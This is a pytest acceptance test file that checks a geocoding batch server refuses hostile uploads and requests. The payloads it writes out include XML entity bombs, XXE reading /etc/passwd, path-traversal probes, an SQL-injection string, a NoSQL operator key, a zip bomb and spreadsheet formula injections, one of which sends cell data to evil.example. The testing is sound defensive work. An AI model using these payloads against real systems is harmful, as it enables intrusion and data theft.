"""Hostile uploads and probes against a real server, as the issue-13 attack ran them (small
generated inputs): XML bombs, external entities and DTDs, one huge XML token (CVE-2023-52425),
zip and gzip bombs, cross-key and path-traversal probes, formula injection in downloads, lines
that lose their Id, entities without an Id. Everything is refused or answered cleanly: never a
5xx, never another key's data, never a file's contents."""

from __future__ import annotations

import csv
import gzip
import http.client
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import httpx
import pytest
from defusedxml import ElementTree

from tests.acceptance import bing_client as bing
from tests.acceptance import farm_client as farm
from tests.acceptance.conftest import Server, start_server

pytestmark = pytest.mark.acceptance

NS = "{http://schemas.microsoft.com/search/local/2010/5/geocode}"
FEED = (
    b'<GeocodeFeed xmlns="http://schemas.microsoft.com/search/local/2010/5/geocode" Version="2.0">'
)
ENTITY = b'<GeocodeEntity Id="1"><GeocodeRequest Query="Oberdorf" /></GeocodeEntity>'
FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "bing"
SECRETS = (b"root:x:", b"SQLite format 3", b"BEGIN PRIVATE KEY")
PIPE_V2 = "Bing Spatial Data Services, 2.0\nId|GeocodeRequest/Query\n"


def _no_secrets(response: httpx.Response) -> None:
    assert response.status_code < 500, response.text
    assert not any(secret in response.content for secret in SECRETS)


# --- hostile XML: each job is accepted (the upload is readable) and aborted with the reason -----

BILLION_LAUGHS = (FIXTURES / "xml-bomb.xml").read_bytes()
HOSTILE_XML = [
    ("entity expansion (billion laughs)", BILLION_LAUGHS, "DTD"),
    ("external entity (XXE)", (FIXTURES / "xml-external-entity.xml").read_bytes(), "DTD"),
    (
        "external DTD",
        b'<!DOCTYPE GeocodeFeed SYSTEM "http://127.0.0.1:9/evil.dtd">'
        + FEED
        + ENTITY
        + b"</GeocodeFeed>",
        "DTD",
    ),
    (
        "parameter entity",
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
        + FEED
        + ENTITY
        + b"</GeocodeFeed>",
        "DTD",
    ),
    (
        "huge comment (CVE-2023-52425)",
        FEED + b"<!--" + b"A" * (3 * 1024 * 1024) + b"-->" + ENTITY + b"</GeocodeFeed>",
        "a comment longer than 1 MB at line 1",
    ),
    (
        "huge attribute value",
        FEED
        + b'<GeocodeEntity Id="1"><GeocodeRequest Query="'
        + b"A" * (3 * 1024 * 1024)
        + b'"/></GeocodeEntity></GeocodeFeed>',
        "more than 1 MB without another '<' after the <GeocodeRequest> tag",
    ),
    (
        "gzip of a huge comment",
        gzip.compress(FEED + b"<!--" + b"A" * (4 * 1024 * 1024) + b"-->" + b"</GeocodeFeed>"),
        "a comment longer than 1 MB",
    ),
]


@pytest.mark.parametrize(("case", "body", "reason"), HOSTILE_XML, ids=[h[0] for h in HOSTILE_XML])
def test_hostile_xml_aborts_the_job_with_its_reason(
    server: Server, client: httpx.Client, case: str, body: bytes, reason: str
) -> None:
    key = server.keys["alice"]
    response = bing.create(client, server.base, key, body, "xml")
    assert response.status_code == 201, response.text
    done = bing.wait(client, response.headers["Location"], key, timeout=60)
    assert done.status == "Aborted"
    assert done.error_message and reason in done.error_message
    assert set(done.links) == {"self"}
    assert not any(secret.decode() in str(done.body) for secret in SECRETS)
    # The server is still answering, and still geocodes.
    _, after = bing.run_job(client, server.base, key, (PIPE_V2 + "1|Oberdorf\n").encode(), "pipe")
    assert after.status == "Completed"


def test_zip_bomb_is_refused_at_upload(server: Server, client: httpx.Client) -> None:
    # 400 MB of spaces, a few hundred kilobytes zipped: over the 300 MB limit once unpacked.
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("input.txt", "w", force_zip64=True) as member,
    ):
        member.write(PIPE_V2.encode())
        block = b" " * (1024 * 1024)
        for _ in range(400):
            member.write(block)
    body = buffer.getvalue()
    assert len(body) < 2 * 1024 * 1024
    response = bing.create(client, server.base, server.keys["alice"], body, "pipe")
    assert response.status_code == 400
    assert "uncompressed data exceeds the limit of 300 MB" in response.json()["errorDetails"][0]


# --- cross-key isolation and path traversal -------------------------------------------------


@pytest.fixture(scope="module")
def alices_job(server: Server) -> Iterator[str]:
    """A completed Bing job of alice with both a succeeded and a failed download."""
    with httpx.Client(timeout=30) as client:
        data = (PIPE_V2 + "1|Oberdorf\n2|\n").encode()
        location, done = bing.run_job(client, server.base, server.keys["alice"], data, "pipe")
        assert done.status == "Completed" and set(done.links) == {"self", "succeeded", "failed"}
        yield location


def test_another_key_sees_nothing_of_a_job(
    server: Server, client: httpx.Client, alices_job: str
) -> None:
    bob, alice = server.keys["bob"], server.keys["alice"]
    for url in (alices_job, f"{alices_job}/output/succeeded", f"{alices_job}/output/failed"):
        assert client.get(url, params={"key": alice}).status_code == 200
        response = client.get(url, params={"key": bob})
        assert response.status_code == 404, url
        assert b"Oberdorf" not in response.content
        # The same with the path's case changed and the parameter's name in capitals.
        other = client.get(url.replace("/REST/v1/", "/rest/V1/"), params={"KEY": bob})
        assert other.status_code == 404
    listed = client.get(f"{server.base}/REST/v1/dataflows/listjobs", params={"key": bob})
    assert alices_job.rsplit("/", 1)[1] not in listed.text


TRAVERSALS = [
    "..",
    "../..",
    "..%2f..%2fjobs.sqlite",
    "%2e%2e%2f%2e%2e%2fjobs.sqlite",
    "..%5c..%5cjobs.sqlite",
    "%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "%00",
    "a" * 5000,
    "*",
    "%27%20OR%20%271%27%3D%271",
]


def _raw_get(server: Server, path: str) -> httpx.Response:
    """GET ``path`` exactly as written: http.client sends it unchanged, where httpx (like a
    browser) would resolve its dot segments before sending."""
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        connection.request("GET", path)
        reply = connection.getresponse()
        return httpx.Response(reply.status, content=reply.read())
    finally:
        connection.close()


@pytest.mark.parametrize("probe", TRAVERSALS)
def test_path_traversal_probes_find_nothing(
    server: Server, client: httpx.Client, alices_job: str, probe: str
) -> None:
    key = server.keys["alice"]
    base = "/REST/v1/Dataflows/Geocode"
    job_id = alices_job.rsplit("/", 1)[1]
    for path in (
        f"{base}/{probe}",
        f"{base}/{probe}/output/succeeded",
        f"{base}/{job_id}/output/{probe}",
        f"{base}/{job_id}/output/succeeded/{probe}",
        f"/{probe}",
    ):
        response = _raw_get(server, f"{path}?key={key}")
        _no_secrets(response)
        assert response.status_code in (400, 404, 405), (path, response.status_code)
    result = _raw_get(server, f"/batch-forward/result/?id={probe}&key={key}")
    _no_secrets(result)
    assert result.status_code in (400, 404), result.status_code


def test_a_farm_batch_is_another_keys_secret(server: Server, client: httpx.Client) -> None:
    alice, bob = server.keys["alice"], server.keys["bob"]
    done = farm.run_batch(client, server.base, alice, ["Oberdorf"])
    assert done["REQUEST"]["status"] == "DONE"
    url = farm.submit(client, server.base, alice, ["Oberdorf"]).json()["REQUEST"]["result_url"]
    batch_id = parse_qs(urlsplit(url).query)["id"][0]
    for path in ("batch-forward/result/", "batch-reverse/result/"):
        response = client.get(f"{server.base}/{path}", params={"id": batch_id, "key": bob})
        assert response.status_code == 404 and b"Oberdorf" not in response.content
    # A Farm batch id is no Bing job, for its own key either.
    bing_url = f"{server.base}/REST/v1/Dataflows/Geocode/{quote(batch_id)}"
    assert client.get(bing_url, params={"key": alice}).status_code == 404


# --- downloads: formula injection, lost Ids, entities without an Id -----------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1)"]


def _csv_job(server: Server, client: httpx.Client, key: str) -> list[list[str]]:
    lines = ["Bing Spatial Data Services, 2.0", "Id,GeocodeRequest/Query,Foo"]
    lines += [f'{i},"{q.replace(chr(34), chr(34) * 2)}",-5' for i, q in enumerate(INJECTIONS)]
    lines += ["9,Oberdorf,-122.1"]
    _, done = bing.run_job(client, server.base, key, ("\n".join(lines) + "\n").encode(), "csv")
    assert done.status == "Completed" and "succeeded" in done.links
    text = client.get(done.links["succeeded"], params={"key": key}).text
    return list(csv.reader(io.StringIO(text)))[2:]


def test_downloads_neutralise_formulas_by_default(server: Server, client: httpx.Client) -> None:
    rows = {row[0]: row for row in _csv_job(server, client, server.keys["alice"])}
    for i, injection in enumerate(INJECTIONS):
        assert rows[str(i)][1] == "'" + injection
        assert rows[str(i)][2] == "-5"  # a number: left as it is
    assert rows["9"][1:3] == ["Oberdorf", "-122.1"]


@pytest.fixture(scope="module")
def raw_server(
    tmp_path_factory: pytest.TempPathFactory, acceptance_index: Path
) -> Iterator[Server]:
    """A server for machine consumers: GEOBATCH_EXCEL_SAFE=0."""
    running = start_server(
        tmp_path_factory, acceptance_index, ("machine",), GEOBATCH_EXCEL_SAFE="0"
    )
    yield running
    running.stop()


def test_excel_safe_can_be_turned_off(raw_server: Server, client: httpx.Client) -> None:
    rows = {row[0]: row for row in _csv_job(raw_server, client, raw_server.keys["machine"])}
    assert [rows[str(i)][1] for i in range(len(INJECTIONS))] == INJECTIONS


@pytest.mark.parametrize(("fmt", "d"), [("csv", ","), ("pipe", "|"), ("tab", "\t")])
def test_lines_that_cannot_be_read_keep_their_id(
    server: Server, client: httpx.Client, fmt: str, d: str
) -> None:
    key = server.keys["alice"]
    lines = ["Bing Spatial Data Services, 2.0", f"Id{d}GeocodeRequest/Query{d}FaultReason"]
    lines += [f'1{d}"Vaduz{d}Vaduz', f"2{d}{'x' * 140_000}"]
    lines += [f"{i}{d}Oberdorf" for i in range(3, 101)]
    _, done = bing.run_job(client, server.base, key, ("\n".join(lines) + "\n").encode(), fmt)
    assert (done.status, done.total, done.failed) == ("Completed", 100, 2)
    failed = client.get(done.links["failed"], params={"key": key}).text.splitlines()[2:]
    by_id = {line.split(d, 1)[0]: line for line in failed}
    assert set(by_id) == {"1", "2"}
    assert "Line 3 has a quote" in by_id["1"]
    assert "(line 4)" in by_id["2"]


def test_toolkit_entities_without_an_id_are_geocoded(server: Server, client: httpx.Client) -> None:
    body = (
        FEED
        + b'<GeocodeEntity><GeocodeRequest Query="Oberdorf" /></GeocodeEntity>'
        + b'<GeocodeEntity><GeocodeRequest Query="Unterdorf" /></GeocodeEntity>'
        + b"</GeocodeFeed>"
    )
    key = server.keys["alice"]
    _, done = bing.run_job(client, server.base, key, body, "xml")
    assert (done.status, done.total, done.failed) == ("Completed", 2, 0)
    root = ElementTree.fromstring(client.get(done.links["succeeded"], params={"key": key}).content)
    entities = list(root.iter(f"{NS}GeocodeEntity"))
    assert [entity.get("Id") for entity in entities] == ["", ""]
    assert all(entity.find(f"{NS}GeocodeResponse") is not None for entity in entities)


# --- hostile JSON bodies on the Geocode.Farm batch calls ------------------------------------

HOSTILE_JSON = [
    ("batch-forward", b"[" * 100_000 + b"]" * 100_000, 400),
    ("batch-forward", b'{"key": "K", "addresses": ' + b"[" * 50_000 + b"]" * 50_000 + b"}", 400),
    ("batch-forward", b'{"key": "K", "addresses": [NaN]}', 400),
    ("batch-forward", b'{"key": "K", "addresses": [1e999]}', 400),
    ("batch-forward", b'{"key": "K", "addresses": [null]}', 400),
    ("batch-forward", b'{"key": "K", "addresses": ["\\ud800"]}', 400),
    ("batch-forward", b'{"key": {"$ne": null}, "addresses": ["Vaduz"]}', 401),
    ("batch-forward", b'{"key": ["K"], "addresses": ["Vaduz"]}', 401),
    ("batch-forward", b'{"key": "nope", "key": "K", "addresses": {"0": "Vaduz"}}', 400),
    ("batch-forward", b'{"key": "K", "addresses": ["' + b"a" * (9 * 1024 * 1024) + b'"]}', 400),
    ("batch-forward", b"\x00\x01\x02", 400),
    ("batch-reverse", b'{"key": "K", "coordinates": [{"lat": "NaN", "lon": 0}]}', 400),
    ("batch-reverse", b'{"key": "K", "coordinates": [{"lat": 1e400, "lon": 0}]}', 400),
    ("batch-reverse", b'{"key": "K", "coordinates": [{"lat": true, "lon": 0}]}', 400),
    ("batch-reverse", b'{"key": "K", "coordinates": [{"lat": "91", "lon": 0}]}', 400),
    ("batch-reverse", b'{"key": "K", "coordinates": [[47, 9]]}', 400),
]


@pytest.mark.parametrize(("path", "payload", "status"), HOSTILE_JSON)
def test_hostile_json_bodies_are_refused_in_the_envelope(
    server: Server, client: httpx.Client, path: str, payload: bytes, status: int
) -> None:
    data = payload.replace(b'"K"', f'"{server.keys["alice"]}"'.encode())
    response = client.post(f"{server.base}/{path}/", content=data)
    assert response.status_code == status, response.text[:300]
    body = response.json()
    assert list(body)[:2] == ["LEGAL", "STATUS"] and body["STATUS"]["status"] == "FAILED"
    assert body["STATUS"]["credit_used"] == 0
